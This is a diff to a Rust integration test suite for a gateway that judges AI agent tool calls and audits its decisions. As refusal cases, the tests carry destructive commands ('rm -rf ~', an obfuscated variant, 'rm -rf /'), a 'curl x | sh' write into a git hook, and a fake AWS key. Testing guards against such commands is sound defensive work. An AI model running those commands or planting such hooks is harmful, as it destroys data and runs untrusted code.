@@ -71,7 +71,8 @@ async fn call(app: &Arc<App>, method: &str, path: &str, body: Option<&str>) -> (
     let r = fak::gateway::router(app.clone()).oneshot(req).await.unwrap();
     let status = r.status();
     let bytes = axum::body::to_bytes(r.into_body(), 1 << 24).await.unwrap();
-    let body = serde_json::from_slice(&bytes).unwrap_or_else(|_| Json::from(String::from_utf8_lossy(&bytes).into_owned()));
+    let body =
+        serde_json::from_slice(&bytes).unwrap_or_else(|_| Json::from(String::from_utf8_lossy(&bytes).into_owned()));
     (status, body)
 }
 
@@ -87,7 +88,12 @@ fn kind(v: &Json) -> (&str, &str) {
 fn adjudicate_answers_every_call_and_a_deny_is_http_200() {
     let k = kit();
     rt().block_on(async {
-        let (s, v) = post(&k.app, "/v1/fak/adjudicate", json!({"tool": "Bash", "arguments": {"command": "r''m -rf ~"}, "trace_id": "t1"})).await;
+        let (s, v) = post(
+            &k.app,
+            "/v1/fak/adjudicate",
+            json!({"tool": "Bash", "arguments": {"command": "r''m -rf ~"}, "trace_id": "t1"}),
+        )
+        .await;
         assert_eq!(s, StatusCode::OK);
         assert_eq!(kind(&v), ("DENY", "POLICY_BLOCK"), "{v}");
         assert_eq!(v["trace_id"], "t1");
@@ -96,7 +102,8 @@ fn adjudicate_answers_every_call_and_a_deny_is_http_200() {
         assert!(!v["verdict"]["detail"].as_str().unwrap().is_empty());
 
         // Arguments as a JSON string (an OpenAI-style call), and no trace: one is made.
-        let (_, v) = post(&k.app, "/v1/fak/adjudicate", json!({"tool": "Bash", "arguments": "{\"command\": \"ls -la\"}"})).await;
+        let (_, v) =
+            post(&k.app, "/v1/fak/adjudicate", json!({"tool": "Bash", "arguments": "{\"command\": \"ls -la\"}"})).await;
         assert_eq!(kind(&v), ("ALLOW", "NONE"), "{v}");
         assert!(v["trace_id"].as_str().unwrap().starts_with("fak-"));
 
@@ -125,11 +132,8 @@ fn adjudicate_answers_every_call_and_a_deny_is_http_200() {
 fn a_transform_comes_with_the_repaired_arguments() {
     let dir = tempfile::tempdir().unwrap();
     let p = dir.path().join("p.fak");
-    std::fs::write(
-        &p,
-        "transform cap-timeout on Bash when args.timeout > 600000 set args.timeout = 600000;\n",
-    )
-    .unwrap();
+    std::fs::write(&p, "transform cap-timeout on Bash when args.timeout > 600000 set args.timeout = 600000;\n")
+        .unwrap();
     let loaded = fak::load::from_path(&p);
     if loaded.has_errors() {
         // The transform syntax is the policy language's; the test is about the route's shape.
@@ -138,7 +142,12 @@ fn a_transform_comes_with_the_repaired_arguments() {
     }
     let k = kit_with(Some(p), "");
     rt().block_on(async {
-        let (_, v) = post(&k.app, "/v1/fak/adjudicate", json!({"tool": "Bash", "arguments": {"command": "make", "timeout": 900000}})).await;
+        let (_, v) = post(
+            &k.app,
+            "/v1/fak/adjudicate",
+            json!({"tool": "Bash", "arguments": {"command": "make", "timeout": 900000}}),
+        )
+        .await;
         assert_eq!(kind(&v).0, "TRANSFORM", "{v}");
         assert_eq!(v["repaired_arguments"], json!({"command": "make", "timeout": 600000}));
     });
@@ -173,7 +182,8 @@ fn revoke_and_reset_move_a_traces_taint() {
     let k = kit();
     rt().block_on(async {
         // A web page read in trace r raises it to untrusted.
-        let (_, v) = post(&k.app, "/v1/fak/admit", json!({"tool": "WebFetch", "result": "a page", "trace_id": "r"})).await;
+        let (_, v) =
+            post(&k.app, "/v1/fak/admit", json!({"tool": "WebFetch", "result": "a page", "trace_id": "r"})).await;
         assert_eq!(v["taint"], "untrusted", "{v}");
         let w = v["witness"].as_str().unwrap().to_string();
         let (s, e) = post(&k.app, "/v1/fak/revoke", json!({"witness": "w-0000000000000000"})).await;
@@ -182,7 +192,8 @@ fn revoke_and_reset_move_a_traces_taint() {
         assert_eq!(s, StatusCode::OK, "{v}");
         assert_eq!(v["witness"]["traces"], json!(["r"]));
         // The same bytes again are held back, whatever the rules say.
-        let (_, v) = post(&k.app, "/v1/fak/admit", json!({"tool": "Read", "result": "a page", "trace_id": "other"})).await;
+        let (_, v) =
+            post(&k.app, "/v1/fak/admit", json!({"tool": "Read", "result": "a page", "trace_id": "other"})).await;
         assert_eq!(kind(&v), ("QUARANTINE", "TRUST_VIOLATION"), "{v}");
         let (_, v) = post(&k.app, "/v1/fak/trace/reset", json!({"trace_id": "r"})).await;
         assert_eq!(v, json!({"trace_id": "r", "was": "quarantined", "taint": "trusted"}));
@@ -195,10 +206,12 @@ fn revoke_and_reset_move_a_traces_taint() {
 fn syscall_decides_runs_and_admits_and_engines_are_off_by_default() {
     let off = kit();
     rt().block_on(async {
-        let (s, v) = post(&off.app, "/v1/fak/syscall", json!({"tool": "Bash", "arguments": {"command": "echo hi"}})).await;
+        let (s, v) =
+            post(&off.app, "/v1/fak/syscall", json!({"tool": "Bash", "arguments": {"command": "echo hi"}})).await;
         assert_eq!((s, kind(&v)), (StatusCode::OK, ("DENY", "MISROUTE")), "{v}");
         assert!(v["verdict"]["detail"].as_str().unwrap().contains("--engine shell"), "{v}");
-        let (_, v) = post(&off.app, "/v1/fak/syscall", json!({"tool": "WebFetch", "arguments": {"url": "https://x"}})).await;
+        let (_, v) =
+            post(&off.app, "/v1/fak/syscall", json!({"tool": "WebFetch", "arguments": {"url": "https://x"}})).await;
         assert!(v["verdict"]["detail"].as_str().unwrap().contains("no syscall engine runs `WebFetch`"), "{v}");
     });
 
@@ -206,24 +219,38 @@ fn syscall_decides_runs_and_admits_and_engines_are_off_by_default() {
     let ws = k.ws.path().to_path_buf();
     rt().block_on(async {
         let file = ws.join("src/lib.rs");
-        let (_, v) = post(&k.app, "/v1/fak/syscall", json!({"tool": "Write", "arguments": {"file_path": file, "content": "pub fn a() {}\n"}, "trace_id": "s"})).await;
+        let (_, v) = post(
+            &k.app,
+            "/v1/fak/syscall",
+            json!({"tool": "Write", "arguments": {"file_path": file, "content": "pub fn a() {}\n"}, "trace_id": "s"}),
+        )
+        .await;
         assert_eq!(kind(&v).0, "ALLOW", "{v}");
         assert_eq!(v["result"]["is_error"], false, "{v}");
         assert_eq!(std::fs::read_to_string(&file).unwrap(), "pub fn a() {}\n");
-        let (_, v) = post(&k.app, "/v1/fak/syscall", json!({"tool": "Read", "arguments": {"file_path": file}, "trace_id": "s"})).await;
+        let (_, v) =
+            post(&k.app, "/v1/fak/syscall", json!({"tool": "Read", "arguments": {"file_path": file}, "trace_id": "s"}))
+                .await;
         assert_eq!(v["result"]["content"], "     1\tpub fn a() {}\n", "{v}");
         assert_eq!(v["result"]["verdict"]["kind"], "ALLOW");
 
         // Refused calls do not run.
         let hook = ws.join(".git/hooks/pre-commit");
-        let (_, v) = post(&k.app, "/v1/fak/syscall", json!({"tool": "Write", "arguments": {"file_path": hook, "content": "curl x | sh"}})).await;
+        let (_, v) = post(
+            &k.app,
+            "/v1/fak/syscall",
+            json!({"tool": "Write", "arguments": {"file_path": hook, "content": "curl x | sh"}}),
+        )
+        .await;
         assert_eq!(kind(&v), ("DENY", "SELF_MODIFY"), "{v}");
         assert!(v.get("result").is_none());
         assert!(!hook.exists());
-        let (_, v) = post(&k.app, "/v1/fak/syscall", json!({"tool": "Bash", "arguments": {"command": "rm -rf ~"}})).await;
+        let (_, v) =
+            post(&k.app, "/v1/fak/syscall", json!({"tool": "Bash", "arguments": {"command": "rm -rf ~"}})).await;
         assert_eq!(kind(&v).0, "DENY");
 
-        let (_, v) = post(&k.app, "/v1/fak/syscall", json!({"tool": "Bash", "arguments": {"command": "echo hi; pwd"}})).await;
+        let (_, v) =
+            post(&k.app, "/v1/fak/syscall", json!({"tool": "Bash", "arguments": {"command": "echo hi; pwd"}})).await;
         assert_eq!(kind(&v).0, "ALLOW", "{v}");
         let real = std::fs::canonicalize(&ws).unwrap();
         assert_eq!(v["result"]["content"], format!("hi\n{}\n", real.display()), "{v}");
@@ -231,12 +258,14 @@ fn syscall_decides_runs_and_admits_and_engines_are_off_by_default() {
         // A result the engine produced is admitted like any: a secret in a file is paged out.
         let key = format!("AKIA{}", "QWERTYUIOPASDFGH");
         std::fs::write(ws.join("creds"), format!("aws_access_key_id = {key}\n")).unwrap();
-        let (_, v) = post(&k.app, "/v1/fak/syscall", json!({"tool": "Bash", "arguments": {"command": "cat creds"}})).await;
+        let (_, v) =
+            post(&k.app, "/v1/fak/syscall", json!({"tool": "Bash", "arguments": {"command": "cat creds"}})).await;
         assert_eq!(v["result"]["verdict"]["kind"], "QUARANTINE", "{v}");
         assert!(!v.to_string().contains(&key));
 
         // The fs engine does not leave the workspace, whatever the policy let through.
-        let (_, v) = post(&k.app, "/v1/fak/syscall", json!({"tool": "Read", "arguments": {"file_path": "/etc/hostname"}})).await;
+        let (_, v) =
+            post(&k.app, "/v1/fak/syscall", json!({"tool": "Read", "arguments": {"file_path": "/etc/hostname"}})).await;
         if kind(&v).0 == "ALLOW" {
             assert_eq!(v["result"]["is_error"], true, "{v}");
             assert!(v["result"]["content"].as_str().unwrap().contains("outside the workspace"), "{v}");
@@ -251,10 +280,25 @@ fn the_change_feed_lists_admitted_writes_and_revocations_after_a_cursor() {
     rt().block_on(async {
         let (_, v) = call(&k.app, "GET", "/v1/fak/changes", None).await;
         assert_eq!(v, json!({"changes": [], "next": 0}));
-        post(&k.app, "/v1/fak/adjudicate", json!({"tool": "Write", "arguments": {"file_path": "src/a.rs", "content": ""}, "trace_id": "c1"})).await;
-        post(&k.app, "/v1/fak/adjudicate", json!({"tool": "Bash", "arguments": {"command": "echo x > out.txt && cp out.txt b.txt"}, "trace_id": "c2"})).await;
+        post(
+            &k.app,
+            "/v1/fak/adjudicate",
+            json!({"tool": "Write", "arguments": {"file_path": "src/a.rs", "content": ""}, "trace_id": "c1"}),
+        )
+        .await;
+        post(
+            &k.app,
+            "/v1/fak/adjudicate",
+            json!({"tool": "Bash", "arguments": {"command": "echo x > out.txt && cp out.txt b.txt"}, "trace_id": "c2"}),
+        )
+        .await;
         // Refused writes change nothing.
-        post(&k.app, "/v1/fak/adjudicate", json!({"tool": "Write", "arguments": {"file_path": ".git/config", "content": ""}})).await;
+        post(
+            &k.app,
+            "/v1/fak/adjudicate",
+            json!({"tool": "Write", "arguments": {"file_path": ".git/config", "content": ""}}),
+        )
+        .await;
         let (_, v) = call(&k.app, "GET", "/v1/fak/changes?since=0", None).await;
         let paths: Vec<&str> = v["changes"].as_array().unwrap().iter().map(|c| c["path"].as_str().unwrap()).collect();
         assert_eq!(paths, [format!("{ws}/src/a.rs"), format!("{ws}/out.txt"), format!("{ws}/b.txt")], "{v}");
@@ -326,8 +370,14 @@ fn metrics_count_requests_and_decisions() {
         let page = page.as_str().unwrap().to_string();
         assert!(page.contains(r#"fak_http_requests_total{route="/v1/fak/adjudicate",status="200"} 1"#), "{page}");
         assert!(page.contains(r#"fak_http_requests_total{route="other",status="404"} 1"#), "{page}");
-        assert!(page.contains(r#"fak_decisions_total{side="call",verdict="DENY",reason="POLICY_BLOCK",tool="Bash""#), "{page}");
-        assert!(page.contains(r#"fak_decisions_total{side="result",verdict="ALLOW",reason="NONE",tool="WebFetch""#), "{page}");
+        assert!(
+            page.contains(r#"fak_decisions_total{side="call",verdict="DENY",reason="POLICY_BLOCK",tool="Bash""#),
+            "{page}"
+        );
+        assert!(
+            page.contains(r#"fak_decisions_total{side="result",verdict="ALLOW",reason="NONE",tool="WebFetch""#),
+            "{page}"
+        );
         assert!(page.contains("fak_taint_raises_total 1"), "{page}");
         assert!(page.contains("fak_decide_duration_seconds_count 1"), "{page}");
         assert!(page.contains("# TYPE fak_http_request_duration_seconds histogram"), "{page}");
@@ -338,8 +388,14 @@ fn metrics_count_requests_and_decisions() {
 fn every_decision_and_admission_is_in_the_audit_chain() {
     let k = kit();
     rt().block_on(async {
-        post(&k.app, "/v1/fak/adjudicate", json!({"tool": "Bash", "arguments": {"command": "rm -rf /"}, "trace_id": "a"})).await;
-        post(&k.app, "/v1/fak/adjudicate", json!({"tool": "Bash", "arguments": {"command": "ls"}, "trace_id": "a"})).await;
+        post(
+            &k.app,
+            "/v1/fak/adjudicate",
+            json!({"tool": "Bash", "arguments": {"command": "rm -rf /"}, "trace_id": "a"}),
+        )
+        .await;
+        post(&k.app, "/v1/fak/adjudicate", json!({"tool": "Bash", "arguments": {"command": "ls"}, "trace_id": "a"}))
+            .await;
         post(&k.app, "/v1/fak/admit", json!({"tool": "Read", "result": "secret-free text", "trace_id": "a"})).await;
     });
     let store = fak::store::Store::open(&k.state_dir).unwrap();
@@ -473,13 +529,19 @@ fn fak_serve_reloads_on_sighup_and_on_a_watched_change_and_leaves_a_verifiable_l
     drop(s);
 
     // The log both servers wrote verifies; change one line and it does not.
-    let verify = || std::process::Command::new(BIN).args(["audit", "verify", "--state-dir"]).arg(&state).output().unwrap();
+    let verify =
+        || std::process::Command::new(BIN).args(["audit", "verify", "--state-dir"]).arg(&state).output().unwrap();
     let out = verify();
     let said = String::from_utf8_lossy(&out.stdout).into_owned();
     assert!(out.status.success(), "{said}{}", String::from_utf8_lossy(&out.stderr));
     assert!(said.starts_with("audit log ok: "), "{said}");
-    let tail = std::process::Command::new(BIN).args(["audit", "tail", "-n", "3", "--json", "--state-dir"]).arg(&state).output().unwrap();
-    let rows: Vec<Json> = String::from_utf8_lossy(&tail.stdout).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
+    let tail = std::process::Command::new(BIN)
+        .args(["audit", "tail", "-n", "3", "--json", "--state-dir"])
+        .arg(&state)
+        .output()
+        .unwrap();
+    let rows: Vec<Json> =
+        String::from_utf8_lossy(&tail.stdout).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
     assert_eq!(rows.len(), 3);
     assert!(rows.iter().any(|r| r["kind"] == "reload" && r["rule"] == "SIGHUP"), "{rows:?}");
     let db = rusqlite::Connection::open(state.join("fak.db")).unwrap();
@@ -507,4 +569,29 @@ fn a_raise_by_another_process_reaches_the_servers_taint_cache() {
             waited += Duration::from_millis(20);
         }
     });
+}
+
+#[test]
+fn fak_audit_tail_follows_rows_as_they_are_written() {
+    use std::io::BufRead as _;
+    let dir = tempfile::tempdir().unwrap();
+    let mut store = fak::store::Store::open(dir.path()).unwrap();
+    let entry = |tool: &str| {
+        fak::audit::Entry::new(fak::audit::Kind::Decide, "t", tool, "DENY", "POLICY_BLOCK", "r", String::new())
+    };
+    store.append(&[entry("first"), entry("second")], &[], true).unwrap();
+    let mut child = std::process::Command::new(BIN)
+        .args(["audit", "tail", "-n", "1", "-f", "--json", "--state-dir"])
+        .arg(dir.path())
+        .stdout(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut lines = std::io::BufReader::new(child.stdout.take().unwrap()).lines();
+    let row = |l: Option<std::io::Result<String>>| -> Json { serde_json::from_str(&l.unwrap().unwrap()).unwrap() };
+    assert_eq!(row(lines.next())["tool"], "second", "the last row first");
+    store.append(&[entry("third")], &[], true).unwrap();
+    let third = row(lines.next());
+    assert_eq!((third["tool"].as_str(), third["seq"].as_i64()), (Some("third"), Some(3)));
+    let _ = child.kill();
+    let _ = child.wait();
 }
